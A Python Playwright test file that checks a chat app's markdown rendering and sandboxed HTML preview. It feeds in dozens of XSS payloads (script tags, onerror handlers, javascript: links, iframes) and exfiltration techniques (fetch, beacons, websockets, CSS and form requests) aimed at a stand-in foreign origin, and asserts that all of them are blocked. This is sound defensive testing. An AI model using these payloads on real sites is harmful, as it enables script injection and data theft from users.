"""Hostile answers: nothing of them runs in the page, and the preview reaches nobody."""

import re
from collections.abc import Callable
from typing import Any

from .conftest import Opened, Stranger

PWNED = "window.__pwned=1;document.title='pwned'"
OUTPUTS = {
    "script": f"<script>{PWNED}</script>",
    "img": f'<img src=x onerror="{PWNED}">',
    "svg": f'<svg onload="{PWNED}"><script>{PWNED}</script></svg>',
    "iframe": f'<iframe srcdoc="<script>parent.{PWNED}</script>"></iframe>',
    "closing tags": f"</div></article></main><script>{PWNED}</script>",
    "style": "<style>*{display:none}</style> <link rel=stylesheet href=STRANGER/s.css>",
    "javascript link": f"[click](javascript:{PWNED})",
    "spaced javascript link": f"[click](  JaVaScRiPt:{PWNED}) [x](\tjavascript:{PWNED})",
    "data link": "[click](data:text/html,<script>alert(1)</script>)",
    "vbscript and file": "[a](vbscript:x) [b](file:///etc/passwd) [c](blob:x) [d](/v1/models)",
    "autolink": f"<javascript:{PWNED}> <data:text/html,x>",
    "image": "![pixel](STRANGER/pixel.png) ![x](javascript:1)",
    "nested image link": f"[![a](STRANGER/p.png)](javascript:{PWNED})",
    "attribute": f'[x](https://e.example/" onmouseover="{PWNED}) ',
    "fence language": f'```"><img src=x onerror={PWNED}>\ncode\n```',
    "code": f"`<img src=x onerror={PWNED}>` and ```<script>{PWNED}</script>```",
    "code break out": f"```html\n</code></pre><script>{PWNED}</script>\n```",
    "table": f"|<img src=x onerror={PWNED}>|b|\n|-|-|\n|<script>{PWNED}</script>|[x](javascript:1)",
    "page": f"<!doctype html><html><body onload={PWNED}><script>{PWNED}</script></body></html>",
    "meta": "<meta http-equiv=refresh content='0;url=STRANGER/refresh'>",
    "base and form": "<base href=STRANGER/><form action=STRANGER/form><button>x</button></form>",
    "entities": "&lt;script&gt; &#60;img src=x&#62; \\<script\\>",
    "deep quotes": ">" * 60 + " deep",
    "deep lists": "\n".join("  " * i + "- x" for i in range(12)),
    "many brackets": "[" * 60 + "]" * 60 + "(" * 30,
    "many stars": "*_" * 40 + "~~`" * 20,
    "marks of other directions": "\u202egnp.exe\u202c \u0000\u0007 \ufffd",
}


ELEMENTS = frozenset(
    "p span div pre code button h2 h3 h4 h5 h6 ul ol li em strong del a blockquote hr table thead "
    "tbody tr th td".split()
)


def test_answers_are_text(open_page: Callable[..., Opened], stranger: Stranger) -> None:
    """In the thoughts and in the answer, while it grows and afterwards, and in the question."""
    tab = open_page(drafts=False, thinking=True)
    page = tab.page
    for name, text in OUTPUTS.items():
        output = text.replace("STRANGER", stranger.url)
        page.click("#clear")
        answer = tab.ask(output if len(output) < 500 else "Hi", f"{output}</think>{output}")
        answer.locator("summary").click()
        assert answer.locator(".note.bad").count() == 0, (name, answer.inner_text())
        assert page.evaluate("() => window.__pwned") is None, name
        assert page.title() == "deepdraft", name
        drawn = page.evaluate(
            """() => [...document.querySelectorAll(".md *, .question *")]
            .map((n) => n.localName)"""
        )
        assert set(drawn) <= ELEMENTS, name
        links = page.evaluate(
            "() => [...document.querySelectorAll('.md a')].map((a) => [a.protocol, a.host, a.rel])"
        )
        for protocol, host, rel in links:
            assert protocol in ("http:", "https:", "mailto:") and "noopener" in rel, name
            assert not host or host not in tab.live.url, name
        attributes = page.evaluate(
            """() => [...document.querySelectorAll(".md *")]
            .flatMap((n) => n.getAttributeNames())"""
        )
        assert not [a for a in attributes if a.startswith("on") or a in ("style", "src")], name
    assert stranger.visits == []
    assert tab.complaints == []


# What each piece of HTML tries; STRANGER is another origin's address.
ATTACKS = {
    "fetch": "<script>fetch('STRANGER/fetch').catch(()=>{})</script>",
    "fetch own server": "<script>fetch(location.href.replace(/page.*/,'v1/models'))"
    ".then((r)=>r.text()).then(()=>fetch('STRANGER/own')).catch(()=>{})</script>",
    "xhr": "<script>{const x=new XMLHttpRequest();x.open('GET','STRANGER/xhr');x.send()}</script>",
    "beacon": "<script>navigator.sendBeacon('STRANGER/beacon','x')</script>",
    "event source": "<script>new EventSource('STRANGER/events')</script>",
    "web socket": "<script>new WebSocket('STRANGER/socket'.replace('http','ws'))</script>",
    "image": "<img src='STRANGER/image.png'><script>new Image().src='STRANGER/image2'</script>",
    "svg image": "<svg><image href='STRANGER/svg.png' width=9 height=9 /></svg>",
    "style sheet": "<link rel=stylesheet href='STRANGER/style.css'>",
    "style import": "<style>@import url('STRANGER/import.css')</style>",
    "style background": "<style>body{background:url('STRANGER/background')}</style>",
    "font": "<style>@font-face{font-family:f;src:url('STRANGER/font')}"
    "body{font-family:f}</style>text",
    "script": "<script src='STRANGER/script.js'></script>",
    "module": "<script type=module>import('STRANGER/module.js').catch(()=>{})</script>",
    "form": "<form id=f action='STRANGER/form' method=post></form><script>f.submit()</script>",
    "form by button": "<form action='STRANGER/button'><button id=b>x</button></form>"
    "<script>b.click()</script>",
    "popup": "<script>window.open('STRANGER/popup')</script>",
    "link to a new tab": "<a id=a href='STRANGER/tab' target=_blank>x</a>"
    "<script>a.click()</script>",
    "ping": "<a id=a href='#x' ping='STRANGER/ping'>x</a><script>a.click()</script>",
    "worker": "<script>try{new Worker('STRANGER/worker.js')}catch{}"
    "try{new Worker(URL.createObjectURL(new Blob([\"fetch('STRANGER/blob')\"])))}catch{}"
    "try{new Worker(\"data:text/javascript,fetch('STRANGER/data')\")}catch{}</script>",
    "shared worker": '<script>try{new SharedWorker("data:text/javascript,'
    "fetch('STRANGER/shared')\")}catch{}</script>",
    "frame": "<iframe src='STRANGER/frame'></iframe>",
    "srcdoc frame": "<iframe srcdoc=\"<img src='STRANGER/srcdoc'>\"></iframe>",
    "object": "<object data='STRANGER/object'></object><embed src='STRANGER/embed'>",
    "media": "<video src='STRANGER/video' autoplay></video><audio src='STRANGER/audio' autoplay>"
    "</audio><video poster='STRANGER/poster'></video>",
    "preload": "<link rel=preload as=image href='STRANGER/preload'>"
    "<link rel=prefetch href='STRANGER/prefetch'>",
    "navigation": "<script>location='STRANGER/navigation'</script>",
    "navigation by link": "<a id=a href='STRANGER/link'>x</a><script>a.click()</script>",
    "refresh": "<meta http-equiv=refresh content='0;url=STRANGER/refresh'>",
    "navigation of the page": "<script>try{top.location='STRANGER/top'}catch{}</script>",
    "policy of its own": '<meta http-equiv=Content-Security-Policy content="default-src *">'
    "<img src='STRANGER/meta.png'>",
    "document written anew": "<script>setTimeout(()=>{document.open();"
    "document.write(\"<img src='STRANGER/anew.png'>\");document.close()})</script>",
    "speculation rules": '<script type=speculationrules>{"prefetch":[{"source":"list",'
    '"urls":["STRANGER/speculated"],"eagerness":"immediate"}]}</script>',
    "image input": "<input type=image src='STRANGER/input.png'>",
    "track": "<video><track default kind=subtitles src='STRANGER/track.vtt'></video>"
    "<script>document.querySelector('video').textTracks[0].mode='showing'</script>",
    "body background": "<table background='STRANGER/table.png'><tr><td>x</table>",
    "svg filter": "<svg><filter id=f><feImage href='STRANGER/filter.png'/></filter>"
    "<rect width=9 height=9 filter='url(#f)'/></svg>",
    "style images": "<style>p{cursor:url(STRANGER/cursor),auto;list-style:url(STRANGER/list);"
    "display:list-item;border-image:url(STRANGER/border) 1;border:1px solid}"
    "p::before{content:url(STRANGER/content)}</style>",
    "module preload": "<link rel=modulepreload href='STRANGER/preloaded.js'>",
    "frame with data": "<iframe src=\"data:text/html,<img src='STRANGER/framed'>\"></iframe>",
    "frame with script": "<iframe src=\"javascript:'<img src=STRANGER/scripted>'\"></iframe>",
    "frame with blob": "<iframe id=i></iframe><script>i.src=URL.createObjectURL(new Blob(["
    "\"<img src='STRANGER/blobbed'>\"],{type:'text/html'}))</script>",
    "download": "<a id=a href='STRANGER/download' download>x</a><script>a.click()</script>",
    "form to the page's window": "<form id=f action='STRANGER/formtop' target=_top></form>"
    "<script>f.submit()</script>",
    "base for targets": "<base target=_parent><a id=a href='STRANGER/parent'>x</a>"
    "<script>a.click()</script>",
    "window by name": "<script>open('STRANGER/byname','_parent')</script>",
    "kept request": "<script>fetch('STRANGER/kept',{keepalive:true}).catch(()=>{})</script>",
    "report of violations": '<meta http-equiv=Content-Security-Policy content="img-src none;'
    "report-uri STRANGER/report\"><img src='data:image/png,x'>",
    "manifest and icon": "<link rel=icon href='STRANGER/icon.png'>"
    "<link rel=manifest href='STRANGER/manifest'>",
}


def html(attack: str, stranger: Stranger) -> str:
    body = ATTACKS[attack].replace("STRANGER", stranger.url)
    return f"<!doctype html><html><body><p id=begun>begun</p>{body}</body></html>"


def test_the_preview_reaches_nobody(open_page: Callable[..., Opened], stranger: Stranger) -> None:
    """Every attack in a preview of its own, all in one answer; a visit's path tells whose."""
    tab = open_page()
    pages = [f"```html\n{html(attack, stranger)}\n```" for attack in ATTACKS]
    tab.feed("\n\n".join(pages))
    tab.ask()
    runs = tab.page.locator("button.run")
    assert runs.count() == len(ATTACKS)
    for i in range(len(ATTACKS)):
        runs.nth(i).evaluate("node => node.click()")
    for i, attack in enumerate(ATTACKS):
        frame = tab.page.frame_locator(f".preview iframe >> nth={i}")
        # Those that navigate end on the browser's own page that says it was blocked.
        frame.locator("#begun, body.neterror, img").first.wait_for(state="attached")
        assert stranger.visits == [], attack
    tab.page.wait_for_timeout(1000)
    assert stranger.visits == []
    assert len(tab.context.pages) == 1, "no popup"
    assert tab.page.url.rstrip("/") == tab.live.url, "the page is where it was"
    assert tab.page.inner_text("#state") == "toy"
    # What was blocked is said in the console; nothing else is.
    words = ("Content Security Policy", "sandbox", "Blocked", "Refused", "ERR_BLOCKED")
    assert [text for text in tab.complaints if not any(word in text for word in words)] == []


# Headless Chromium opens no window without a gesture, and asks for no icon or manifest of a frame.
# It starts no shared worker here either, and "fetch own server" needs a server of ours.
# It follows no speculation rules of a plain-HTTP page and heeds no reports asked for by a meta tag.
SILENT = {
    "manifest and icon", "popup", "link to a new tab", "shared worker", "fetch own server",
    "speculation rules", "report of violations",
}  # fmt: skip
# These take the whole tab with them.
TOPS = (
    "navigation of the page",
    "form to the page's window",
    "base for targets",
    "window by name",
)


def test_each_attack_would_reach_a_stranger(browser: Any, stranger: Stranger) -> None:
    """The test above could fail: without our fences the same pages make visits."""
    loud = [attack for attack in ATTACKS if attack not in SILENT]
    frames = []
    for i, attack in enumerate(loud):
        stranger.pages[f"/page{i}"] = html(attack, stranger)
        if attack not in TOPS:
            frames.append(f"<iframe src='/page{i}'></iframe>")
    stranger.pages["/"] = f"<title>x</title>{''.join(frames)}"
    ways = {attack: set(re.findall(r"STRANGER([\w/.]+)", ATTACKS[attack])) for attack in loud}
    tab = browser.new_page()
    tab.goto(stranger.url, wait_until="commit")

    def left() -> list[str]:
        seen = set(stranger.visits)
        return [attack for attack, paths in ways.items() if not paths & seen]

    def wait(wanted: set[str]) -> None:
        for _ in range(150):
            if set(left()) <= wanted:
                return
            tab.wait_for_timeout(50)

    wait(set(TOPS))
    for i, top in enumerate(TOPS, 1):
        # A tab of its own: where the one before still goes would take its place.
        tab.close()
        tab = browser.new_page()
        tab.goto(f"{stranger.url}/page{loud.index(top)}", wait_until="commit")
        wait(set(TOPS[i:]))
    assert left() == []
    tab.close()


def test_the_preview_cannot_read_the_page(open_page: Callable[..., Opened]) -> None:
    tab = open_page()
    tab.page.evaluate("() => { localStorage.secret = 'x'; document.cookie = 'secret=1'; }")
    tries = [
        "parent.document.title",
        "top.document.body",
        "parent.location.href",
        "parent.localStorage.secret",
        "parent.sessionStorage.length",
        "frameElement.id",
        "parent.fetch",
        "document.cookie",
        "indexedDB.open('x').error",
        "caches.keys().length",
        "parent.frames[0].parent.document",
    ]
    lines = "".join(f"say({name!r}, () => {name});" for name in tries)
    script = (
        "const out=[];function say(n,f){let r;try{r=f()}catch(e){r='blocked'}"
        "out.push(n+'='+(r===null?'blocked':r))}"
        f"{lines}document.getElementById('out').textContent=out.join('\\n');"
    )
    page = f"<html><body><pre id=out></pre><p id=o></p><script>{script}</script></body></html>"
    tab.ask(answer=f"```html\n{page}\n```")
    tab.page.click("button.run")
    out = tab.page.frame_locator(".preview iframe").locator("#out")
    out.filter(has_text="document.cookie").wait_for()
    for line in out.inner_text().splitlines():
        assert line.endswith("=blocked"), line
    origin = tab.page.frames[1].evaluate("() => self.origin")
    assert origin == "null"


def test_the_preview_runs_games(open_page: Callable[..., Opened]) -> None:
    """Inline scripts, handlers, styles, canvas, timers, keys, and a storage that forgets."""
    page = """<!DOCTYPE html><html><head><style>body { color: rgb(1, 2, 3) }</style></head>
<body onload="loaded()"><canvas id="c" width="20" height="20"></canvas><p id="score">0</p>
<script>
let score = Number(localStorage.getItem("best") || 0);
function loaded() {
  document.getElementById("c").getContext("2d").fillRect(0, 0, 5, 5);
  localStorage.setItem("best", "7");
  setInterval(() => {
    document.getElementById("score").textContent = localStorage.getItem("best") + ":" + score;
  }, 10);
}
addEventListener("keydown", (event) => { if (event.key === "ArrowLeft") score++; });
</script></body></html>"""
    tab = open_page()
    # A page without a fence around it can be run as well.
    tab.ask(answer=page)
    tab.page.click("button.run")
    frame = tab.page.frame_locator(".preview iframe")
    frame.locator("#score:text('7:0')").wait_for()
    tab.page.keyboard.press("ArrowLeft")
    frame.locator("#score:text('7:1')").wait_for()
    colour = frame.locator("body").evaluate("node => getComputedStyle(node).color")
    assert colour == "rgb(1, 2, 3)"
    tab.page.click(".preview button:text('Restart')")
    frame.locator("#score:text('7:0')").wait_for()
    tab.page.click(".preview button:text('Close')")
    assert tab.page.locator(".preview").count() == 0
    assert tab.page.evaluate("() => document.activeElement.className") == "run"
    assert tab.complaints == []


def test_a_game_that_loads_itself_anew(open_page: Callable[..., Opened]) -> None:
    """To start over; in a loop it is left alone, and the page stays as it was."""
    page = """<!DOCTYPE html><html><body><p id="at">0</p><button id="again">Again</button><script>
document.getElementById("at").textContent = "begun";
document.getElementById("again").onclick = () => location.reload();
</script></body></html>"""
    tab = open_page()
    loop = "<html><body><script>location.reload()</script></body></html>"
    tab.feed(f"```html\n{page}\n```\n\n```html\n{loop}\n```")
    tab.ask()
    tab.page.locator("button.run").first.click()
    frame = tab.page.frame_locator(".preview iframe")
    frame.locator("#at:text('begun')").wait_for()
    tab.page.wait_for_timeout(400)
    frame.locator("#at").evaluate("node => { node.textContent = 'played'; }")
    frame.locator("#again").click()
    frame.locator("#at:text('begun')").wait_for()
    tab.page.locator("button.run").last.click()
    tab.page.wait_for_timeout(300)
    tab.page.locator(".preview button:text('Close')").last.click()
    assert tab.page.locator(".preview").count() == 1
    assert tab.complaints == []


def test_a_flood_of_messages(open_page: Callable[..., Opened]) -> None:
    """Nobody listens, and the page can be used meanwhile."""
    flood = "<html><body><script>setInterval(() => { for (let i = 0; i < 5; i++) {"
    flood += "parent.postMessage({html: 'x', error: {}}, '*'); top.postMessage('x', '*') } }, 20)"
    tab = open_page()
    tab.ask(answer=f"```html\n{flood}</script></body></html>\n```")
    tab.page.click("button.run")
    tab.page.wait_for_timeout(200)
    assert "Still here." in tab.ask(answer="Still here.").inner_text()
    tab.page.click(".preview button:text('Close')")
    assert tab.page.locator(".preview").count() == 0
    assert tab.complaints == []


def test_the_preview_opened_by_itself_is_fenced_too(
    open_page: Callable[..., Opened], stranger: Stranger
) -> None:
    """Its own headers make the origin opaque, whoever opens it, and only we may frame it."""
    tab = open_page()
    stranger.pages["/"] = f"<iframe src='{tab.live.url}/page/preview.html'></iframe>"
    tab.page.goto(f"{tab.live.url}/page/preview.html")
    assert tab.page.evaluate("() => self.origin") == "null"
    tab.page.goto(stranger.url)
    tab.page.wait_for_timeout(300)
    assert "preview" not in tab.page.frames[1].title()
